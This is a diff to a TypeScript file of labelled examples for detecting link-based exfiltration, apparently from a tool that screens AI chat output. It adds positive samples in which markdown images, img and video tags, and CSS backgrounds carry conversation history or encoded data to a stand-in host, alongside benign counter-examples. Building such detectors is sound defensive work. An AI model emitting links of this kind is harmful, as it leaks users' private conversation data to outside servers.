@@ -135,6 +135,11 @@ export const textExamples: Readonly<Record<string, string>> = {
   "links.exfiltration": `
     + ![](https://x.example/a.png?d=[CONVERSATION_HISTORY])
     + <img src="https://x.example/p?q=<base62 48>">
+    + <video poster="https://x.example/p?q=<base62 48>">
+    + <style>p { background: url(https://x.example/p?q=<base62 48>) }</style>
+    - [more](https://x.example/p?q=<base62 48>)
+    - ![chart](https://quickchart.io/chart?c={type:'bar',data:{labels:[1,2],values:[30,40]}})
+    - ![a](https://x.example/<hex 40>.png)
     + ![](https://x.example/p?q=the+balance+of+the+account+is+4711)
     - ![logo](https://example.org/logo.png?v=3)
     - [docs](https://example.org/search?q=how+to+start+a+server+quickly)
